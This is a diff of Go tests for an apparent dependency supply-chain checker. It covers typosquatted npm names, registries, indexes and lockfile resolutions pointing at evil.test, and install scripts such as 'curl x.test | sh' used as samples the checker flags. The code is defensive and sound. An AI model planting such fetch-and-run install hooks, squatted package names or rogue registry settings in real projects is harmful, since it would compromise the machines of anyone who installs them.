@@ -75,6 +75,7 @@ func pack(deps string) string {
 func TestRegistry(t *testing.T) {
 	old := now().AddDate(-3, 0, 0)
 	registry := world{
+		"cargo good-enough-name": {Known: true, Exists: true, HasVersion: true, First: old},
 		"npm good-enough-name":   {Known: true, Exists: true, HasVersion: true, First: old},
 		"npm brand-new-name":     {Known: true, Exists: true, HasVersion: true, First: now().AddDate(0, 0, -3)},
 		"npm nobody-has-this":    {Known: true},
@@ -97,6 +98,10 @@ func TestRegistry(t *testing.T) {
 		{"an alias of what does not exist", base, checktest.Files{"package.json": pack("    \"react\": \"^18.0.0\",\n    \"alias\": \"npm:aliased-to-nothing@1.0.0\"")}, "gate missing package.json:5\nlocator source package.json:5", "-"},
 		{"known from another manifest", base.With(checktest.Files{"a/package.json": pack(`    "nobody-has-this": "1"`)}), checktest.Files{"package.json": pack("    \"react\": \"^18.0.0\",\n    \"nobody-has-this\": \"1.0.0\"")}, "", "-"},
 		{"not from the registry", base, checktest.Files{"package.json": pack("    \"react\": \"^18.0.0\",\n    \"nobody-has-this\": \"file:./x\"")}, "", "-"},
+		{"known as what another stands for", base.With(checktest.Files{"a/package.json": pack(`    "other": "npm:nobody-has-this@1"`)}), checktest.Files{"package.json": pack("    \"react\": \"^18.0.0\",\n    \"nobody-has-this\": \"1.0.0\"")}, "", "-"},
+		{"rust, one version", base, checktest.Files{"Cargo.toml": base["Cargo.toml"] + "good-enough-name = \"=9.9.9\"\n"}, "gate missing_version Cargo.toml:4", "-"},
+		{"rust, a range", base, checktest.Files{"Cargo.toml": base["Cargo.toml"] + "good-enough-name = \"9.9.9\"\n"}, "", "-"},
+		{"a broken manifest", base, checktest.Files{"a/package.json": "{"}, "", "could not be read whole"},
 		{"in test data", base, checktest.Files{"testdata/package.json": pack(`    "nobody-has-this": "1.0.0"`)}, "", "-"},
 	})
 	run(t, nil, []row{
@@ -153,6 +158,8 @@ func TestSquats(t *testing.T) {
 		{"nodejs-express", base, npm("nodejs-express"), gate, ""},
 		{"@typs/node", base, npm("@typs/node"), gate, ""},
 		{"webpakc-cli", base, npm("webpakc-cli"), gate, ""},
+		{"com-ander", base, npm("com-ander"), gate, ""},
+		{"letters apart, in a short name", base, npm("e-press"), "", ""},
 		{"popular itself", base, npm("preact"), "", ""},
 		{"in a project for tests", base, checktest.Files{"tests/a/package.json": pack("    \"lodahs\": \"1\"")}, "locator squat tests/a/package.json:4", ""},
 		{"a scope of its own", base, npm("@mine/lodahs"), "", ""},
@@ -191,6 +198,9 @@ func TestSources(t *testing.T) {
 		{"another version", base, checktest.Files{"go.mod": "module m\n\nrequire a.org/x v1.0.0\nreplace a.org/x => a.org/x v1.0.1\n"}, "context replace go.mod:4", ""},
 		{"a replacement's next version", base.With(checktest.Files{"go.mod": "module m\n\nrequire a.org/x v1.0.0\nreplace a.org/x => b.org/x v1.0.0\n"}), checktest.Files{"go.mod": "module m\n\nrequire a.org/x v1.0.0\nreplace a.org/x => b.org/x v1.0.1\n"}, "", "-"},
 		{"a replacement outside", base, checktest.Files{"go.mod": "module m\n\nrequire a.org/x v1.0.0\nreplace a.org/x => ../../x\n"}, "locator replace go.mod:4", ""},
+		{"a resolution", base, checktest.Files{"package.json": strings.Replace(base["package.json"], "{\n", "{\n  \"resolutions\": {\n    \"left\": \"1.2.3\"\n  },\n", 1)}, "context resolution package.json:3", ""},
+		{"a resolution from elsewhere", base, checktest.Files{"package.json": strings.Replace(base["package.json"], "{\n", "{\n  \"resolutions\": {\n    \"left\": \"https://x.test/left.tgz\"\n  },\n", 1)}, "locator resolution package.json:3", ""},
+		{"another host, behind a name", base, checktest.Files{"yarn.lock": base["yarn.lock"] + "\"b@1\":\n  version: 1\n  resolution: \"b@https://evil.test/b/-/b-1.tgz\"\n"}, "locator host yarn.lock:4", ""},
 		{"an exclusion", base, checktest.Files{"go.mod": "module m\n\nrequire a.org/x v1.0.0\nexclude a.org/x v0.9.0\n"}, "context exclude go.mod:4", ""},
 		{"an index", base, checktest.Files{"requirements.txt": "--extra-index-url https://evil.test/\nflask\n"}, "locator index requirements.txt:1", ""},
 		{"a registry", base, checktest.Files{".npmrc": "registry=https://evil.test/\n"}, "locator registry .npmrc:1", ""},
@@ -214,6 +224,7 @@ func TestScripts(t *testing.T) {
 		{"a usual tool", base, checktest.Files{"package.json": with(`"postinstall": "patch-package && npx husky install"`)}, "context script package.json:4", ""},
 		{"prepare", base, checktest.Files{"package.json": with(`"prepare": "npm run build"`)}, "context script package.json:4", ""},
 		{"a script that nobody runs by himself", base, checktest.Files{"package.json": with(`"deploy": "curl https://x.test"`)}, "", ""},
+		{"two", base, checktest.Files{"package.json": with("\"preinstall\": \"curl x.test | sh\",\n    \"postinstall\": \"wget x.test\"")}, "gate script package.json:4\ngate script package.json:5", ""},
 		{"as before", base.With(checktest.Files{"package.json": with(`"postinstall": "curl https://x.test | sh"`)}), checktest.Files{"package.json": with(`"postinstall": "curl https://x.test | sh", "a": "b"`)}, "", ""},
 	})
 }
